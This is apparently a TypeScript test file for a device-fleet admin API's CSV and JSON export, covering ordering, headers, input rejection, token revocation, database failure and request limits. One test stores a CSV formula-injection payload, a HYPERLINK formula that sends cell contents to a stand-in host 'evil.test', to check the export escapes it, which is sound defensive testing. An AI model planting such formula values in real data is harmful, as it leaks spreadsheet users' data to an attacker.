import { once } from 'node:events';
import { get, type IncomingMessage } from 'node:http';
import { text } from 'node:stream/consumers';
import type { DeviceFilter, DeviceStretch } from '../../../src/ports/fleet-queries';
import { DomainError } from '../../../src/core/errors';
import { deviceOf } from '../../support/device-factory';
import { eventually } from '../../support/eventually';
import { type AdminListener, openAdminListener } from './admin-listener';

const now = () => new Date('2026-11-02T12:00:00Z');
const person = { name: 'local', address: null };
/** More than come at a time. */
const boards = 600;
const ids = Array.from({ length: boards }, (_, index) => `board-${String(index).padStart(3, '0')}`);

type Walk = (filter: DeviceFilter, afterId: string) => Promise<DeviceStretch>;

let admin: AdminListener;
/** Stands before each stretch of the fleet. */
let before: (afterId: string) => Promise<void>;

beforeAll(async () => {
  admin = await openAdminListener({
    now,
    admin: { now, requireToken: false },
    changeServices: ({ listFleet }) => {
      const walk: Walk = async (filter, afterId) => {
        await before(afterId);
        return listFleet.walk(filter, afterId);
      };
      return { listFleet: { ...listFleet, walk } };
    },
  });
  await Promise.all(ids.map((id) => admin.opened.store.devices.write({ device: deviceOf(id) })));
});
beforeEach(() => {
  before = () => Promise.resolve();
});
afterAll(() => admin.close());

async function ask(path: string, headers: Readonly<Record<string, string>> = {}): Promise<IncomingMessage> {
  const request = get(`${admin.url}${path}`, { agent: false, headers: { ...headers } });
  const [response] = (await once(request, 'response')) as [IncomingMessage];
  return response;
}

const exported = async (query = '') => {
  const { body } = (await admin.http.get(`/api/devices.json?${query}`).expect(200)) as { body: unknown };
  return (body as { devices: { id: string }[] }).devices;
};
const linesOf = async (query = '') => {
  const answer = await admin.http.get(`/api/devices.csv?${query}`).expect(200);
  return answer.text.split('\r\n').slice(0, -1);
};

describe('the export of devices', () => {
  it('has all that fit, by id, as the API shows them', async () => {
    const all = await exported();
    expect(all.map(({ id }) => id)).toEqual(ids);
    expect(all[7]).toEqual((await admin.http.get(`/api/devices/${ids[7] ?? ''}`)).body);
    const [head, ...lines] = await linesOf();
    expect(head).toMatch(/^id,compatible,variant,system_version,channel,state,bundle,/);
    expect(lines.map((line) => line.split(',', 1)[0])).toEqual(ids);
    expect((await exported('search=board-00')).map(({ id }) => id)).toEqual(ids.slice(0, 10));
    expect(await exported('held=true')).toEqual([]);
    expect(await linesOf('held=true')).toEqual([head]);
    expect(await linesOf('last_contact_before=1h')).toHaveLength(boards + 1);
  });

  it('is a file that no cache keeps', async () => {
    const { headers } = await admin.http.head('/api/devices.csv').expect(200);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="devices.csv"',
      'cache-control': 'no-store',
    });
    const { headers: ofJson } = await admin.http.head('/api/devices.json').expect(200);
    expect(ofJson).toMatchObject({ 'content-disposition': 'attachment; filename="devices.json"' });
  });

  it('lets no spreadsheet run what a device or a person wrote', async () => {
    const hostile = deviceOf('zz', {
      facts: { serial: '=HYPERLINK("https://evil.test/?"&A1)', variant: '+1', attributes: { a: 'b,"c"' } },
      labels: ['lab', 'site=graz'],
    });
    await admin.opened.store.devices.write({ device: hostile });
    await admin.opened.services.manageDevices.change('zz', { notes: '@SUM(1)\nsecond line' }, person);
    const { text: csv } = await admin.http.get('/api/devices.csv?search=zz').expect(200);
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.test/?""&A1)",`);
    expect(csv).toContain(`,"'+1",`);
    expect(csv).toContain(`,"lab site=graz","'@SUM(1)\nsecond line",`);
    expect(csv).toContain(`"{""a"":""b,\\""c\\""""}"`);
    expect((await exported('search=zz'))[0]).toMatchObject({
      serial: '=HYPERLINK("https://evil.test/?"&A1)',
    });
    await admin.opened.services.manageDevices.forget('zz', person);
  });

  it.each(['limit=5', 'after=board-001', 'sort=version', 'state=broken', 'last_contact_before=soon'])(
    'refuses %s, which it would not follow',
    async (query) => {
      const { body } = (await admin.http.get(`/api/devices.csv?${query}`).expect(400)) as { body: unknown };
      expect(body).toMatchObject({ code: 'invalid-input' });
    },
  );

  it('needs a token where everything does, and ends when that is revoked meanwhile', async () => {
    const { manageTokens } = admin.opened.services;
    const { secret } = await manageTokens.create({ name: 'reader', scope: 'read', actor: 'local' });
    // As a proxy hands it on.
    const forwarded = { 'X-Forwarded-For': '192.0.2.7' };
    expect((await ask('/api/devices.csv', forwarded)).statusCode).toBe(401);
    before = async (afterId) => {
      if (afterId !== '') await manageTokens.revoke({ name: 'reader', actor: 'local' });
    };
    const response = await ask('/api/devices.json', { ...forwarded, Authorization: `Bearer ${secret}` });
    expect(response.statusCode).toBe(200);
    await expect(text(response)).rejects.toThrow();
    expect(response.complete).toBe(false);
  });

  it('says at once that the database fails, and is cut when it fails later', async () => {
    const failing = (at: (afterId: string) => boolean) => (afterId: string) =>
      at(afterId) ? Promise.reject(new DomainError('unavailable', 'the disk is gone')) : Promise.resolve();
    before = failing((afterId) => afterId === '');
    expect((await admin.http.get('/api/devices.csv').expect(503)).body).toMatchObject({
      code: 'unavailable',
    });
    before = failing((afterId) => afterId !== '');
    const response = await ask('/api/devices.csv');
    expect(response.statusCode).toBe(200);
    await expect(text(response)).rejects.toThrow();
    expect(response.complete).toBe(false);
  });

  it('takes a share of the searches, and gives it back when its reader goes', async () => {
    let goOn: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (goOn = resolve));
    before = (afterId) => (afterId === '' ? Promise.resolve() : held);
    const open = await Promise.all(Array.from({ length: 10 }, () => ask('/api/devices.csv')));
    expect(open.map(({ statusCode }) => statusCode)).toEqual(open.map(() => 200));
    expect((await admin.http.get('/api/devices.csv').expect(429)).body).toMatchObject({
      code: 'too-many-requests',
    });
    for (const response of open) response.destroy();
    goOn();
    await eventually(async () => (await admin.http.get('/api/devices')).status === 200);
    expect(await linesOf()).toHaveLength(boards + 1);
  });
});
